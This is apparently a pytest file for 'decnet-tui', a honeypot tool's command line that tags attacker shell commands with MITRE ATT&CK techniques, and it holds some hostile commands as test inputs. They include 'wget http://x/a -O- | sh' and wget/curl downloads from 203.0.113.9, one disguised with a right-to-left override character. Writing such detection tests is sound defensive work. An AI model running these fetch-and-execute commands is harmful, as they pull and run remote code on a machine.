"""Command lines right and wrong: exit codes, one clear line, places, and what a command loads."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from collections.abc import Sequence
from datetime import UTC, datetime
from importlib import import_module
from pathlib import Path
from threading import Thread
from typing import IO, Any

import pytest
import typer
from typer.main import get_group

from decnet import __version__
from decnet.db.repository import BaseRepository
from decnet_tui.cli.lazy import MODULES
from tests.programkit import PROGRAM, cli, surroundings

LIGHT_MODULES = ("textual", "rich")


def _error(*arguments: str | Path) -> str:
    """The one line that says what is wrong, after a usage error."""
    done = cli(*arguments)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stdout == b""
    (said,) = done.stderr.decode().splitlines()
    assert said.startswith("error: ")
    return said


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (
            ("rules", "disabel", "R0001"),
            ("'disabel'", "Did you mean 'disable'?", "try 'decnet-tui rules --help'"),
        ),
        (("tags", "--limit", "x"), ("'--limit'", "valid integer", "try 'decnet-tui tags --help'")),
        (("nosuch\n\x1b[2J",), ("No such command 'nosuch", "; try 'decnet-tui --help'")),
        (("--nosuch",), ("--nosuch", "try 'decnet-tui --help'")),
        (("rules", "disable"), ("Missing argument 'ID'", "try 'decnet-tui rules disable --help'")),
        (("rules", "clip", "R0001", "--max", "2"), ("'--max'", "try 'decnet-tui rules clip --help'")),
        (("worker", "fly", "ttp"), ("'fly': use stop, start", "try 'decnet-tui worker --help'")),
    ],
)
def test_wrong_usage_is_one_line_that_says_where_help_is(
    arguments: tuple[str, ...], words: tuple[str, ...]
) -> None:
    said = _error(*arguments)
    assert all(word in said for word in words), said
    assert "\x1b" not in said


def test_a_group_without_a_command_shows_its_help() -> None:
    done = cli("rules")
    assert done.returncode == 2
    assert "disable " in (done.stdout + done.stderr).decode()


def test_unknown_sensor_kind_names_the_known_ones(tmp_path: Path) -> None:
    said = _error("--headless", "--sensor", "glutton=/x", "--data-dir", tmp_path / "data")
    assert "'glutton'" in said
    assert "cowrie" in said
    assert not (tmp_path / "data").exists()


def test_sensor_without_equals_shows_how_it_is_written(tmp_path: Path) -> None:
    said = _error("--headless", "--sensor", "/var/log/cowrie.json", "--data-dir", tmp_path / "data")
    assert "KIND=PATH" in said


def test_sensor_with_a_start_that_is_no_date(tmp_path: Path) -> None:
    assert "ISO date" in _error("--headless", "--sensor", "cowrie=/x,from=monday", "--data-dir", tmp_path)


def test_options_before_a_command_are_the_commands_own(tmp_path: Path) -> None:
    for command in (["tags"], ["fleet", "list"]):
        done = cli("--data-dir", tmp_path / "here", *command)
        assert done.returncode == 1
        assert f"no database in {tmp_path / 'here'}" in done.stderr.decode()
    (tmp_path / "rules").mkdir()
    assert "0 rules" in cli("--rules", tmp_path / "rules", "rules", "check").stdout.decode()


def test_a_changed_rule_as_json(tmp_path: Path) -> None:
    async def make() -> None:
        await (await BaseRepository.open(f"sqlite:///{tmp_path / 'decnet.sqlite'}")).close()

    asyncio.run(make())
    done = cli("rules", "clip", "R0012", "--max", "0.4", "--for", "1h", "--json", "--data-dir", tmp_path)
    found = json.loads(done.stdout)
    assert (found["rule_id"], found["state"], found["confidence_max"]) == ("R0012", "clipped", 0.4)
    assert datetime.fromisoformat(found["expires_at"]) > datetime.now(UTC)


def test_an_option_of_the_engine_before_a_command_is_wrong(tmp_path: Path) -> None:
    assert "--headless goes without a command" in _error("--headless", "tags", "--data-dir", tmp_path)


def test_watch_names_a_wrong_pattern() -> None:
    assert "not a topic pattern: 'a..b'" in _error("watch", "a..b")


@pytest.mark.parametrize("command", ["tags", "sessions", "attackers", "workers", "deadletters"])
def test_since_that_is_no_time(command: str, tmp_path: Path) -> None:
    said = _error(command, "--since", "whenever", "--data-dir", tmp_path)
    assert "'whenever'" in said
    assert "1h30m" in said


def test_options_that_do_not_go_together(tmp_path: Path) -> None:
    assert "--headless" in _error("--until-idle", "1", "--data-dir", tmp_path)
    assert "--attach" in _error("--attach", "--headless", "--data-dir", tmp_path)


def test_unknown_key_in_the_config_file_has_its_place(tmp_path: Path) -> None:
    config = tmp_path / "settings.yaml"
    config.write_text("bus:\n  stream: X\n  streem: Y\n", "utf-8")
    said = _error("tags", "--config", config, "--data-dir", tmp_path)
    assert f"{config}:3:3: " in said
    assert "streem" in said


def test_wrong_value_in_the_config_file_has_its_place(tmp_path: Path) -> None:
    config = tmp_path / "settings.yaml"
    config.write_text("runtime:\n  heartbeat_s: soon\n", "utf-8")
    assert f"{config}:2:3: " in _error("--headless", "--config", config, "--data-dir", tmp_path / "data")


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (b"bus: [1,\n", ":2:1"),
        (b"bus:\n\tstream: X\n", ":2:1"),
        (b"- a\n", ":1:1"),
        (b"bus: \x01\n", ":1:6"),
        (b"bus: \xff\n", ":1:1"),
    ],
)
def test_config_file_that_is_no_yaml(text: bytes, place: str, tmp_path: Path) -> None:
    config = tmp_path / "settings.yaml"
    config.write_bytes(text)
    assert f"{config}{place}: " in _error("tags", "--config", config, "--data-dir", tmp_path)


def test_config_file_that_is_not_there(tmp_path: Path) -> None:
    assert str(tmp_path / "none.yaml") in _error("tags", "--config", tmp_path / "none.yaml")


def test_a_list_without_database_fails_with_what_to_do(tmp_path: Path) -> None:
    done = cli("tags", "--json", "--data-dir", tmp_path)
    assert done.returncode == 1
    assert done.stdout == b""
    assert done.stderr.decode().startswith("error: no database in ")
    assert len(done.stderr.splitlines()) == 1


def _answers(stdin: bytes) -> list[dict[str, Any]]:
    done = cli("tag", "-", stdin=stdin)
    assert done.returncode == 0, done.stderr.decode()
    assert done.stderr == b""
    assert done.stdout.isascii()
    return [json.loads(line) for line in done.stdout.splitlines()]


def _techniques(answer: dict[str, Any]) -> set[str]:
    return {tag["technique_id"] for tag in answer["tags"]}


def test_tag_answers_every_line_in_order() -> None:
    event = {"source_kind": "command", "source_id": "c1", "payload": {"command_text": "crontab -l"}}
    lines = [
        b"",
        b'{"command_text": "uname -a"}',
        json.dumps(event).encode(),
        b"uname \xff\xfe -a",
        b"   ",
        b"{broken",
        b'{"source_kind": 3}',
        b'{"source_kind": "no such kind", "payload": {}}',
        b'{"source_kind": "command"}',
        b"[1, 2]",
        "wget http://203.0.113.9/\u202ex.sh".encode(),
        b"a\x0bb\x0cc\x1c\x85\r",
        b"uname -a",
    ]
    answers = _answers(b"\n".join(lines))
    assert [a["input"] for a in answers] == [line.decode("utf-8", "replace") for line in lines]
    assert _techniques(answers[0]) == set()
    assert "T1007" in _techniques(answers[2])
    assert "T1082" in _techniques(answers[3])
    assert "T1105" in _techniques(answers[10])
    assert "T1082" in _techniques(answers[12])
    for number in (4, 6, 7, 8, 9):
        assert answers[number]["tags"] == []
    (tag, *_) = answers[12]["tags"]
    assert list(tag) == ["rule_id", "technique_id", "sub_technique_id", "tactic", "confidence", "matched"]


@pytest.mark.parametrize(("stdin", "count"), [(b"", 0), (b"\n", 1), (b"\n\n", 2), (b"id", 1), (b"id\n", 1)])
def test_tag_counts_lines_as_wc_does(stdin: bytes, count: int) -> None:
    assert len(_answers(stdin)) == count


def test_tag_takes_a_file_and_says_when_it_cannot_be_read(tmp_path: Path) -> None:
    commands = tmp_path / "commands"
    commands.write_text("uname -a\n", "utf-8")
    assert b"T1082" in cli("tag", commands).stdout
    done = cli("tag", tmp_path / "none")
    assert done.returncode == 1
    assert len(done.stderr.splitlines()) == 1


def test_version() -> None:
    done = cli("--version")
    assert (done.returncode, done.stdout.decode()) == (0, f"decnet-tui {__version__}\n")


def test_doctor_json_judges_every_subject(tmp_path: Path) -> None:
    done = cli("doctor", "--json", "--data-dir", tmp_path / "data")
    findings = json.loads(done.stdout)
    assert {"versions", "sqlite", "data dir", "disk", "rules", "sensors", "terminal", "database", "bus"} <= {f["check"] for f in findings}  # fmt: skip
    assert all(f["result"] in ("ok", "WARN", "FAIL") and f["detail"] for f in findings)
    assert done.returncode == int(any(f["result"] == "FAIL" for f in findings))
    assert not (tmp_path / "data").exists()


def test_doctor_fails_on_a_directory_without_rules(tmp_path: Path) -> None:
    done = cli("doctor", "--json", "--data-dir", tmp_path / "data", "--rules", tmp_path)
    assert done.returncode == 1
    (rules,) = [f for f in json.loads(done.stdout) if f["check"] == "rules"]
    assert rules["result"] == "FAIL"
    assert "--rules" in rules["detail"]


RULE = """\
rule_id: R9001
rule_version: 1
name: test_rule
description: 'Made up.'
applies_to: [command]
match:
  pattern: '{pattern}'
emits:
  - {{tactic: TA0007, technique_id: T1082, confidence: 0.7}}
evidence_fields: [command_text]
tests:
  match: ['{match}']
  no_match: ['ls']
"""


def test_rules_check_reports_every_error_with_its_place(tmp_path: Path) -> None:
    files = {
        "syntax": "rule_id: [\n",
        "regex": RULE.format(pattern="(", match="uname"),
        "unknown_key": RULE.format(pattern="uname", match="uname") + "surprise: 1\n",
        "own_test": RULE.format(pattern="uname", match="whoami").replace("R9001", "R9002"),
    }
    for name, text in files.items():
        (tmp_path / f"{name}.yaml").write_text(text, "utf-8")
    done = cli("rules", "check", tmp_path)
    assert done.returncode == 1
    *said, total = done.stdout.decode().splitlines()
    assert total.endswith(f", {len(said)} errors")
    for name in files:
        located = [line for line in said if f"{tmp_path / name}.yaml:" in line]
        assert located, (name, said)
    assert any(f"{tmp_path}/unknown_key.yaml:14:1: " in line for line in said), said
    assert any(f"{tmp_path}/regex.yaml:7:" in line for line in said), said

    as_json = cli("rules", "check", tmp_path, "--json")
    assert as_json.returncode == 1
    problems = json.loads(as_json.stdout)
    assert len(problems) == len(said)
    assert all(p["line"] > 0 and p["column"] > 0 and p["error"] for p in problems)


def test_rules_check_passes_on_the_rules_in_use(tmp_path: Path) -> None:
    done = cli("rules", "check", "--data-dir", tmp_path)
    assert done.returncode == 0, done.stdout.decode()
    assert done.stdout.endswith(b" rules, 0 errors\n")


def test_rules_check_on_no_directory(tmp_path: Path) -> None:
    done = cli("rules", "check", tmp_path / "none")
    assert done.returncode == 1
    assert len(done.stderr.splitlines()) == 1


def _loaded_by(code: str) -> str:
    """Which of the terminal libraries are loaded after ``code``."""
    ending = f"import sys; print([m for m in sys.modules if m.split('.')[0] in {LIGHT_MODULES!r}])"
    done = subprocess.run(
        [sys.executable, "-c", f"{code}\n{ending}"], input="id\n", capture_output=True, text=True, check=False, env=surroundings()
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()[-1]


def test_the_engine_loads_no_terminal_library() -> None:
    everything = (
        "import decnet, importlib, pkgutil\n"
        "for m in pkgutil.walk_packages(decnet.__path__, 'decnet.'):\n"
        "    '.migrations.' in m.name or importlib.import_module(m.name)"
    )
    assert _loaded_by(everything) == "[]"


@pytest.mark.parametrize("arguments", [["tag", "-"], ["--headless", "--help"], ["tags", "--help"]])
def test_headless_commands_start_without_the_console_library(arguments: list[str]) -> None:
    code = f"from decnet_tui.cli.main import app\napp({arguments!r}, standalone_mode=False)"
    assert "textual" not in _loaded_by(code)


def test_the_daemon_works_without_the_console_library(tmp_path: Path) -> None:
    arguments = ["--headless", "--until-idle", "0", "--data-dir", str(tmp_path / "data")]
    code = f"from decnet_tui.cli.main import app\napp({arguments!r}, standalone_mode=False)"
    assert "textual" not in _loaded_by(code)


def test_until_idle_on_a_log_that_is_not_there_fails(tmp_path: Path) -> None:
    done = cli("--headless", "--sensor", f"cowrie={tmp_path / 'no.json'}", "--data-dir", tmp_path / "d", "--until-idle", "0")  # fmt: skip
    assert done.returncode == 1
    assert b"no.json: missing" in done.stderr.splitlines()[-1]


@pytest.mark.parametrize(
    "arguments", [["tag", "-"], *([*name.split(), "--help"] for name in ("rules list", "rules disable", "alerts ack", "ignore", "fleet mutate", "deadletters retry", "intel lookup"))],
    ids=" ".join,
)  # fmt: skip
def test_commands_start_without_database_and_bus(arguments: list[str]) -> None:
    """They cost most of a second."""
    code = (
        f"import sys\nfrom decnet_tui.cli.main import app\napp({arguments!r}, standalone_mode=False)\n"
        "assert not {'sqlalchemy', 'nats', 'alembic'} & set(sys.modules)"
    )
    _loaded_by(code)


def test_the_version_is_told_without_settings() -> None:
    code = (
        "import sys\nfrom decnet_tui.cli.main import app\napp(['--version'], standalone_mode=False)\n"
        "assert not {'pydantic', 'yaml', 'structlog', 'asyncio'} & set(sys.modules)"
    )
    _loaded_by(code)


def test_commands_are_judged_without_what_takes_long_to_load(tmp_path: Path) -> None:
    """A second start finds the rules compiled, and asks neither settings nor Typer's checks for what is plain."""
    asked = ["tag", "-", "--data-dir", str(tmp_path)]
    assert cli(*asked, stdin=b"wget http://x/a -O- | sh\n").returncode == 0
    code = (
        f"import sys\nfrom decnet_tui.cli.main import app\napp({asked!r}, standalone_mode=False)\n"
        "assert not {'pydantic', 'yaml', 'structlog', 'asyncio', 'multiprocessing', 'sqlalchemy'} & set(sys.modules)"
    )
    _loaded_by(code)


def test_the_table_of_commands_names_what_the_modules_register() -> None:
    for module, names in MODULES.items():
        part = typer.Typer()
        import_module(f"decnet_tui.cli.{module}").register(part)
        part.callback()(lambda: None)
        assert set(get_group(part).commands) == set(names), module


def test_tag_answers_a_long_input_in_order_with_every_processor(tmp_path: Path) -> None:
    lines = [f"wget http://203.0.113.9/{i}" if i % 7 else f"crontab -l; echo {i}" for i in range(24_000)]
    event = {"source_kind": "command", "payload": {"command_text": "crontab -l"}}
    lines[22_222] = json.dumps(event)
    source = tmp_path / "lines.txt"
    source.write_text("".join(f"{line}\n" for line in lines), "utf-8")
    done = cli("tag", source, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert [a["input"] for a in answers] == lines
    assert all(a["tags"] for a in answers)
    assert "T1007" in {t["technique_id"] for t in answers[22_222]["tags"]}


@pytest.mark.parametrize("before", [0, 6_000], ids=["alone", "with other processes"])
def test_who_follows_a_log_gets_each_answer_while_the_next_line_is_not_there(before: int) -> None:
    """Read to the answer of the last line that was written; the input stays open all the while."""
    asked = [f"curl http://203.0.113.9/{i}" for i in range(before)]
    with subprocess.Popen(
        [PROGRAM, "tag", "-"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=surroundings()
    ) as program:
        assert program.stdin is not None
        assert program.stdout is not None
        writing = Thread(target=_written, args=(program.stdin, asked))
        writing.start()
        answers = [json.loads(program.stdout.readline())["input"] for _ in asked]
        writing.join()
        for line in ("uname -a", "crontab -l"):
            _written(program.stdin, [line])
            answers.append(json.loads(program.stdout.readline())["input"])
        program.stdin.close()
        assert program.stdout.read() == ""
    assert answers == [*asked, "uname -a", "crontab -l"]
    assert program.returncode == 0


def _written(stream: IO[str], lines: Sequence[str]) -> None:
    stream.write("".join(f"{line}\n" for line in lines))
    stream.flush()


def test_a_line_longer_than_what_is_read_at_once_is_one_line() -> None:
    long = "echo " + "a" * 200_000 + "; crontab -l"
    (first, second) = _answers(f"{long}\nuname -a".encode())
    assert first["input"] == long
    assert "T1082" in _techniques(second)


@pytest.mark.parametrize("text", ["", ",", " , "])
def test_workers_that_name_none_do_not_mean_all(text: str, tmp_path: Path) -> None:
    assert "--workers names none" in _error("--headless", "--workers", text, "--data-dir", tmp_path)


def test_schemas_are_told_by_topic() -> None:
    listed_all = cli("schema")
    assert listed_all.returncode == 0
    assert b"attacker.session.ended" in listed_all.stdout
    one = cli("schema", "canary.tok1.triggered")
    assert json.loads(one.stdout)["title"] == "canary.*.triggered"
    unknown = cli("schema", "no.such")
    assert (unknown.returncode, unknown.stdout) == (2, b"")
    assert b"no event has the topic 'no.such'" in unknown.stderr
